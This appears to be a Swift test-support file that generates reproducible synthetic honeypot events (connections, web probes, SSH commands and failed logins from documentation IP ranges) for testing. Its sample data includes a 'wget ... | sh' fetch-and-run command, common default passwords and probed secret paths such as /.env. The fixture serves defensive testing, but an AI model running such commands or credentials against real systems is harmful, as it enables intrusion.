import TestSupport

/// Events as they may come, the same for the same seed.
package struct SampleEvents: Sendable {
  private static let deckies = ["omega", "lighthouse", "archive-02", "mail", "pump-station", "intranet"]
  private static let services = ["ssh", "ssh", "ssh", "ssh", "http", "http", "smtp", "mysql", "rdp", "ftp"]
  private static let names = [
    "root", "root", "root", "admin", "admin", "ubuntu", "pi", "oracle", "postgres", "test",
  ]
  private static let passwords = [
    "123456", "123456", "password", "admin", "root", "1234", "raspberry", "qwerty", "P@ssw0rd", "toor", "",
  ]
  private static let paths = ["/", "/wp-login.php", "/.env", "/phpmyadmin/", "/cgi-bin/luci", "/.git/config"]
  private static let attackers = (0..<60).map { index in
    index % 17 == 3
      ? "2001:db8:\(String(index, radix: 16)):1::\(String(index * 7, radix: 16))"
      : "\(["203.0.113", "198.51.100", "192.0.2"][index % 3]).\((index * 37 + 9) % 254 + 1)"
  }

  private var random: SplitMix64

  /// The same seed gives the same events.
  package init(seed: UInt64 = 1) { random = SplitMix64(seed: seed) }

  /// An event at a time. Few attackers do most of it.
  package mutating func event(at time: Int64) -> SampleEvent {
    let share = Double(random.below(10_000)) / 10_000
    let attacker = Self.attackers[Int(share * share * share * Double(Self.attackers.count))]
    let service = random.pick(Self.services)
    var event = SampleEvent(
      time: time,
      attacker: attacker,
      decky: random.pick(Self.deckies),
      service: service,
      type: "connect",
      fields: [("src_ip", attacker), ("src_port", "\(1_024 + random.below(60_000))")],
      message: "connection from \(attacker)"
    )
    switch (service, random.below(3)) {
    case ("http", _):
      let path = random.pick(Self.paths)
      event.type = "request"
      event.fields += [("method", "GET"), ("path", path), ("user_agent", "Mozilla/5.0 zgrab/0.x")]
      event.message = "GET \(path)"
    case (_, 0): break
    case (_, 1) where service == "ssh":
      let command = random.pick([
        "uname -a", "cat /proc/cpuinfo", "wget http://198.51.100.7/x.sh -O- | sh", "id; whoami",
      ])
      event.type = "command"
      event.fields.append(("command", command))
      event.message = "command"
    default:
      let (name, password) = (random.pick(Self.names), random.pick(Self.passwords))
      event.type = "login_attempt"
      event.fields += [("username", name), ("password", password)]
      event.message = "login failed for \(name)"
    }
    return event
  }

  /// Events up to a time, the oldest first: more by night, and a burst now and then.
  package mutating func history(until end: Int64, hours: Int, perHour: Int) -> [SampleEvent] {
    var events: [SampleEvent] = []
    for hour in 0..<hours {
      let start = end - Int64(hours - hour) * 3_600_000_000_000
      let wave = 1 + abs((hour + 5) % 24 - 12)
      let burst = hour % 19 == 11 ? 5 : 1
      let amount = perHour * wave * burst / 6 + random.below(perHour / 2 + 1)
      let times = (0..<amount).map { _ in start + Int64(random.below(3_600_000)) * 1_000_000 }
      for time in times.sorted() { events.append(event(at: time)) }
    }
    return events
  }
}
